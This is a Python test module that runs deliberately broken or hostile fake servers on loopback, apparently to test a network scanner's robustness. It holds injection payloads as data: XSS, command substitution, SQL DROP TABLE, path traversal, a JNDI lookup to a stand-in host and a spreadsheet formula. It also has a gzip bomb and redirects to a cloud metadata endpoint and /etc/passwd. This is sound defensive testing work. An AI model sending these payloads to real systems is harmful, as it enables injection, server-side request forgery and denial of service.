"""Servers that mean harm, or are merely broken: what a scanner meets on the internet, on loopback.

    async with HOSTILE["tls.drip"]() as (address, port): ...

The name begins with the protocol that the client believes it speaks: tls, http, smtp, dns (UDP), dnstcp, banner.
None of them ever waits for anything but its client, and all of them stop when the block ends.
"""

from __future__ import annotations

import asyncio
import gzip
import itertools
import socket
import struct
from collections.abc import AsyncIterator, Callable
from contextlib import AbstractAsyncContextManager, asynccontextmanager

from posture.range.listening import Conversation, Peer, TcpPort, bind_both

ADDRESS = "127.0.20.66"
DRIP = 0.05  # seconds between two bytes
Factory = Callable[[], AbstractAsyncContextManager[tuple[str, int]]]

# Text for terminals, web pages, shells, logs, formats and databases to trip over.
INJECTION = (
    b"\x1b]0;owned\x07\x1b[2J\x1b[31m<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
    b"=cmd|' /C calc'!A0 %s%n {0.__class__} ${jndi:ldap://x.test/a} $(id) `id` ; DROP TABLE findings; -- "
    b"../../etc/passwd \xff\xfe\x00\xc0\xaf\xe2\x80\xae"
)


# ---- ways to misbehave, for any protocol


async def silent(peer: Peer) -> None:
    """Reads everything and says nothing."""
    while await peer.read(65536):
        pass


async def deaf(peer: Peer) -> None:
    """Neither reads nor speaks."""
    await asyncio.get_running_loop().create_future()


async def hang_up(peer: Peer) -> None:
    """Closes at once."""


def resets(first: bytes = b"", *, wait: bool = True) -> Conversation:
    """Says ``first`` after the client's first words (or at once), then resets the connection."""

    async def converse(peer: Peer) -> None:
        if wait:
            await peer.read(65536)
        await peer.say(first)
        connection = peer.writer.get_extra_info("socket")
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # RST instead of FIN
        peer.writer.transport.abort()

    return converse


def says(*answers: bytes, wait: bool = True) -> Conversation:
    """One answer to each thing the client says (or the first at once), then a clean end."""

    async def converse(peer: Peer) -> None:
        for number, answer in enumerate(answers):
            if (wait or number) and not await peer.read(65536):
                return
            await peer.say(answer)

    return converse


def stays(*answers: bytes, wait: bool = True) -> Conversation:
    """Like :func:`says`, but never closes."""
    return after(says(*answers, wait=wait), silent)


def drips(data: bytes, *, wait: bool = True) -> Conversation:
    """One byte at a time, slowly, again and again: every read succeeds and nothing ever ends."""

    async def converse(peer: Peer) -> None:
        if wait:
            await peer.read(65536)
        for byte in itertools.cycle(data):
            await peer.say(bytes([byte]))
            await asyncio.sleep(DRIP)

    return converse


def floods(first: bytes, again: bytes, *, wait: bool = True) -> Conversation:
    """``first``, then ``again`` for ever, as fast as the client takes it."""

    async def converse(peer: Peer) -> None:
        if wait:
            await peer.read(65536)
        await peer.say(first)
        while True:
            await peer.say(again)
            await asyncio.sleep(0)  # a fast client must not keep the loop to itself

    return converse


def after(*parts: Conversation) -> Conversation:
    """One behaviour after the other."""

    async def converse(peer: Peer) -> None:
        for part in parts:
            await part(peer)

    return converse


async def echo(peer: Peer) -> None:
    """Says whatever it hears."""
    while data := await peer.read(65536):
        await peer.say(data)


# ---- TLS: records by hand (RFC 8446 section 5.1, RFC 5246 section 7.4)


def record(kind: int, body: bytes, *, version: int = 0x0303, length: int | None = None) -> bytes:
    return struct.pack("!BHH", kind, version, len(body) if length is None else length) + body


def handshake(kind: int, body: bytes, *, length: int | None = None) -> bytes:
    return bytes([kind]) + (len(body) if length is None else length).to_bytes(3, "big") + body


def server_hello(
    *, suite: int = 0xC02F, version: int = 0x0303, extensions: bytes = b"", random: bytes = b"r" * 32
) -> bytes:
    body = struct.pack("!H", version) + random + b"\0" + struct.pack("!HB", suite, 0)
    return handshake(2, body + (struct.pack("!H", len(extensions)) + extensions if extensions else b""))


_RETRY = bytes.fromhex("cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c")
_RETRY_EXTENSIONS = bytes.fromhex("002b00020304" + "003300020017")  # TLS 1.3, group secp256r1
_CERTIFICATES = (10_000).to_bytes(3, "big") + b"\0\0\1x" * 2500
_FATAL = record(21, b"\x02\x28")
_SILLY_EXTENSIONS = struct.pack("!HH", 0xFF01, 0xFFFF) + b"x"


def flaky() -> Conversation:
    """Every second connection is reset, the others are refused with an alert: two answers to one question."""
    turn = itertools.cycle((says(_FATAL), resets()))

    async def converse(peer: Peer) -> None:
        await next(turn)(peer)

    return converse


TLS: dict[str, Conversation] = {
    "silent": silent,
    "deaf": deaf,
    "hang_up": hang_up,
    "reset": resets(),
    "reset_at_once": resets(wait=False),
    "reset_midway": resets(record(22, server_hello())[:20]),
    "reset_after_hello": resets(record(22, server_hello())),
    "flaky": flaky(),
    "drip": drips(record(22, server_hello(), length=16384)),
    "drip_alerts": drips(record(21, b"\x01\x00")),
    "echo": echo,
    "plain_http": says(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n"),
    "ssh_banner": stays(b"SSH-2.0-OpenSSH_9.2p1\r\n", wait=False),
    "truncated_hello": says(record(22, server_hello())[:-10]),
    "lying_record_length": stays(record(22, server_hello(), length=65535)),
    "lying_hello_length": stays(record(22, handshake(2, b"\3\3" + b"r" * 36, length=0xFFFFFF))),
    "short_hello": says(record(22, handshake(2, b"\3\3"))),
    "lying_extensions": says(record(22, server_hello(extensions=_SILLY_EXTENSIONS))),
    "suite_never_offered": says(record(22, server_hello(suite=0xFFFF))),
    "version_from_nowhere": says(record(22, server_hello(version=0x0909))),
    "record_type_from_nowhere": says(record(99, INJECTION)),
    "alert_from_nowhere": says(record(21, b"\xee\xee")),
    "retry_for_ever": floods(b"", record(22, server_hello(suite=0x1301, extensions=_RETRY_EXTENSIONS, random=_RETRY))),
    "warnings_for_ever": floods(b"", record(21, b"\x01\x5a")),
    "empty_records_for_ever": floods(b"", record(22, b"")),
    "fragments_for_ever": floods(record(22, handshake(2, b"", length=0xFFFFFF)), record(22, b"x")),
    "certificate_of_16_megabytes": floods(
        record(22, server_hello()) + record(22, handshake(11, b"\xff\xff\xfc", length=0xFFFFFF)),
        record(22, b"\0\0\1x" * 4096),
    ),
    "certificates_of_one_byte": stays(record(22, server_hello()) + record(22, handshake(11, _CERTIFICATES))),
    "hello_twice": stays(record(22, server_hello() + server_hello(suite=0x0005))),
}

# ---- HTTP (RFC 9112)

_OK = b"HTTP/1.1 200 OK\r\n"
_CHUNKED = _OK + b"Transfer-Encoding: chunked\r\n\r\n"
_BOMB = gzip.compress(bytes(20_000_000), 9)
_BLOCK = b"x" * 65536


def _redirect(location: bytes) -> Conversation:
    return says(b"HTTP/1.1 302 Found\r\nLocation: " + location + b"\r\nContent-Length: 0\r\n\r\n")


HTTP: dict[str, Conversation] = {
    "silent": silent,
    "reset": resets(),
    "reset_in_headers": resets(_OK + b"Server: x"),
    "reset_in_body": resets(_OK + b"Content-Length: 100\r\n\r\nhalf"),
    "drip_headers": drips(_OK + b"X: y\r\n" * 1000),
    "drip_body": after(says(_OK + b"Content-Length: 100000\r\n\r\n"), drips(b"x", wait=False)),
    "status_line_for_ever": floods(b"HTTP/1.1 200 ", _BLOCK),
    "header_line_for_ever": floods(_OK + b"X: ", _BLOCK),
    "headers_for_ever": floods(_OK, b"X-Same: " + b"y" * 100 + b"\r\n"),
    "continue_for_ever": floods(b"", b"HTTP/1.1 103 Early Hints\r\n\r\n"),
    "body_for_ever": floods(_OK + b"\r\n", _BLOCK),
    "chunks_for_ever": floods(_CHUNKED, b"10000\r\n" + _BLOCK + b"\r\n"),
    "trailers_for_ever": floods(_CHUNKED + b"0\r\n", b"X: y\r\n"),
    "chunk_size_of_a_megabyte": floods(_CHUNKED, b"f" * 65536),
    "negative_chunk": says(_CHUNKED + b"-5\r\nhello\r\n0\r\n\r\n"),
    "length_too_long": says(_OK + b"Content-Length: 1000000000000\r\n\r\nshort"),
    "length_negative": says(_OK + b"Content-Length: -1\r\n\r\nshort"),
    "two_lengths": says(_OK + b"Content-Length: 5\r\nContent-Length: 50\r\n\r\nhello"),
    "length_and_chunks": says(_OK + b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"),
    "gzip_bomb": says(_OK + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(_BOMB) + _BOMB),
    "status_from_nowhere": says(b"HTTP/1.1 999999999 \xff\xfe\r\n\r\n"),
    "version_from_nowhere": says(b"HTTP/9.9 200 OK\r\n\r\n"),
    "no_headers": says(b"<html>hello</html>"),
    "redirect_to_itself": _redirect(b"/"),
    "redirect_to_metadata": _redirect(b"http://169.254.169.254/latest/meta-data/"),
    "redirect_to_a_file": _redirect(b"file:///etc/passwd"),
    "redirect_to_nonsense": _redirect(b"http://[::1:x]:99999/\xff%%%"),
    "redirect_of_a_megabyte": _redirect(b"https://" + b"a" * 1_000_000 + b".test/"),
    "injecting_headers": says(_OK + b"Server: " + INJECTION.replace(b"\x00", b"") + b"\r\nContent-Length: 0\r\n\r\n"),
    "nul_in_headers": says(_OK + b"Ser\x00ver: a\x00b\r\n\r\n"),
    "injecting_body": says(_OK + b"Content-Length: %d\r\n\r\n" % len(INJECTION) + INJECTION),
}


# ---- SMTP (RFC 5321, RFC 3207)

_GREETING = b"220 mx.test ESMTP\r\n"
_EHLO = b"250-mx.test\r\n250 STARTTLS\r\n"
_GO_AHEAD = b"220 Go ahead\r\n"

SMTP: dict[str, Conversation] = {
    "silent": silent,
    "hang_up": hang_up,
    "busy": says(b"421 4.3.2 Try again later\r\n", wait=False),
    "rejecting": stays(b"554 5.7.1 Go away\r\n", wait=False),
    "drip_greeting": drips(b"220-mx.test\r\n", wait=False),
    "greeting_for_ever": floods(b"", b"220-mx.test is very pleased to meet you\r\n", wait=False),
    "line_for_ever": floods(b"220 ", _BLOCK, wait=False),
    "injecting_greeting": stays(b"220 " + INJECTION + b"\r\n", _EHLO, wait=False),
    "code_from_nowhere": stays(b"9x9 what\r\n", wait=False),
    "mixed_codes": stays(_GREETING, b"250-mx.test\r\n550 STARTTLS\r\n", wait=False),
    "ehlo_for_ever": after(says(_GREETING, wait=False), floods(b"", b"250-X-MORE\r\n")),
    "ehlo_cut": says(_GREETING, b"250-mx.test\r\n250-STAR", wait=False),
    "ehlo_reset": after(says(_GREETING, wait=False), resets(b"250-mx.test\r\n")),
    "masked_by_a_firewall": stays(
        b"220 ****************\r\n", b"250-mx.test\r\n250 XXXXXXXA\r\n", b"500 unknown\r\n", wait=False
    ),
    "starttls_refused": stays(_GREETING, _EHLO, b"454 4.7.0 TLS not available\r\n", wait=False),
    "starttls_then_silence": stays(_GREETING, _EHLO, _GO_AHEAD, wait=False),
    "starttls_then_reset": after(says(_GREETING, _EHLO, _GO_AHEAD, wait=False), resets()),
    "starttls_then_clear_text": stays(_GREETING, _EHLO, _GO_AHEAD, b"250 mx.test\r\n" * 50, wait=False),
    "starttls_with_injected_answer": stays(_GREETING, _EHLO, _GO_AHEAD + b"250 injected\r\n", _FATAL, wait=False),
}


# ---- DNS (RFC 1035)


def dns_reply(
    query: bytes, *, flags: int = 0x8180, counts: tuple[int, int, int, int] = (1, 0, 0, 0), rest: bytes = b""
) -> bytes:
    """The query's id and question under a header of our own; ``rest`` follows."""
    end = query.index(b"\0", 12) + 5 if b"\0" in query[12:] else len(query)
    return query[:2] + struct.pack("!H4H", flags, *counts) + query[12:end] + rest


def _wrong_id(query: bytes) -> bytes:
    reply = dns_reply(query)
    return bytes([reply[0] ^ 0xFF]) + reply[1:]


_SELF = b"\xc0\x0c"  # a pointer to the question's name
_CNAME_TO_ITSELF = _SELF + struct.pack("!HHIH", 5, 1, 60, 2) + _SELF
_A_CUT_SHORT = _SELF + struct.pack("!HHIH", 1, 1, 60, 4) + b"\x7f"
_A_OF_NINE = _SELF + struct.pack("!HHIH", 1, 1, 60, 9) + b"\x7f" * 9
_TXT_LYING = _SELF + struct.pack("!HHIH", 16, 1, 60, 4) + b"\xffabc"
_TXT_INJECTING = _SELF + struct.pack("!HHIHB", 16, 1, 60, len(INJECTION) + 1, len(INJECTION)) + INJECTION
_OTHER_QUESTION = b"\x04evil\x04test\x00\x00\x01\x00\x01"

DNS: dict[str, Callable[[bytes], bytes | None]] = {
    "silent": lambda _: None,
    "empty": lambda _: b"",
    "three_bytes": lambda query: query[:3],
    "garbage": lambda _: INJECTION,
    "echo": lambda query: query,
    "wrong_id": _wrong_id,
    "wrong_question": lambda query: query[:2] + struct.pack("!H4H", 0x8180, 1, 0, 0, 0) + _OTHER_QUESTION,
    "no_question": lambda query: dns_reply(query, counts=(0, 0, 0, 0))[:12],
    "lying_counts": lambda query: dns_reply(query, counts=(1, 65535, 65535, 65535)),
    "truncated": lambda query: dns_reply(query, flags=0x8380),
    "servfail": lambda query: dns_reply(query, flags=0x8182),
    "refused": lambda query: dns_reply(query, flags=0x8185),
    "rcode_from_nowhere": lambda query: dns_reply(query, flags=0x818E),
    "pointer_loop": lambda query: dns_reply(
        query, counts=(1, 1, 0, 0), rest=struct.pack("!H", 0xC000 | len(dns_reply(query)))
    ),
    "pointer_beyond": lambda query: dns_reply(
        query, counts=(1, 1, 0, 0), rest=b"\xff\xff" + struct.pack("!HHIH", 1, 1, 1, 0)
    ),
    "label_type_from_nowhere": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=b"\x80x\0"),
    "alias_of_itself": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=_CNAME_TO_ITSELF),
    "record_cut_short": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=_A_CUT_SHORT),
    "address_of_nine_bytes": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=_A_OF_NINE),
    "string_longer_than_its_record": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=_TXT_LYING),
    "injecting_text": lambda query: dns_reply(query, counts=(1, 1, 0, 0), rest=_TXT_INJECTING),
}

DNS_TCP: dict[str, Conversation] = {
    "silent": silent,
    "hang_up": hang_up,
    "reset": resets(),
    "lying_length": stays(b"\xff\xff" + b"x" * 20),
    "length_zero": stays(b"\0\0"),
    "half_a_length": says(b"\x00"),
    "drip": drips(b"\x40\x00" + b"x" * 1000),
    "messages_for_ever": floods(b"", b"\x00\x0c" + bytes(12)),
}

# ---- what a port sweep hears

BANNER: dict[str, Conversation] = {
    "silent": silent,
    "hang_up": hang_up,
    "reset_at_once": resets(wait=False),
    "drip": drips(b"220 hello ", wait=False),
    "for_ever": floods(b"", _BLOCK, wait=False),
    "zeros_for_ever": floods(b"", bytes(65536), wait=False),
    "injecting": stays(INJECTION * 20 + b"\r\n", wait=False),
    "echo": echo,
    "telnet_options_for_ever": floods(b"", b"\xff\xfd\x18\xff\xfb\x01", wait=False),
    "telnet_option_cut": says(b"\xff\xfa\x18", wait=False),
    "ftp_lines_for_ever": floods(b"220-", b"220-welcome\r\n", wait=False),
    "mysql_lying_length": stays(b"\xff\xff\xff\x00\x0a8.0", wait=False),
    "ssh_endless_version": floods(b"SSH-2.0-", _BLOCK, wait=False),
    "redis_lying_length": stays(b"$999999999999\r\nx"),
    "redis_negative_length": stays(b"$-99\r\n*-5\r\n"),
    "redis_nested_arrays": stays(b"*1\r\n" * 100_000),
    "mongodb_lying_length": stays(struct.pack("<iiii", 0x7FFFFFFF, 1, 1, 1) + b"x"),
    "rdp_half_an_answer": says(b"\x03\x00\x00\x13\x0e"),
    "smb_lying_length": stays(b"\x00\xff\xff\xff\xfeSMB"),
}


def _tcp(conversation: Conversation) -> Factory:
    @asynccontextmanager
    async def stand() -> AsyncIterator[tuple[str, int]]:
        port = TcpPort(ADDRESS)
        port.open(conversation)
        try:
            yield port.address, port.number
        finally:
            await port.release()

    return stand


def _udp(answer: Callable[[bytes], bytes | None]) -> Factory:
    @asynccontextmanager
    async def stand() -> AsyncIterator[tuple[str, int]]:
        closed, udp = await bind_both(ADDRESS, answer)
        try:
            yield closed.address, closed.number
        finally:
            await udp.release()
            await closed.release()

    return stand


HOSTILE: dict[str, Factory] = {
    **{f"tls.{name}": _tcp(conversation) for name, conversation in TLS.items()},
    **{f"http.{name}": _tcp(conversation) for name, conversation in HTTP.items()},
    **{f"smtp.{name}": _tcp(conversation) for name, conversation in SMTP.items()},
    **{f"dns.{name}": _udp(answer) for name, answer in DNS.items()},
    **{f"dnstcp.{name}": _tcp(conversation) for name, conversation in DNS_TCP.items()},
    **{f"banner.{name}": _tcp(conversation) for name, conversation in BANNER.items()},
}
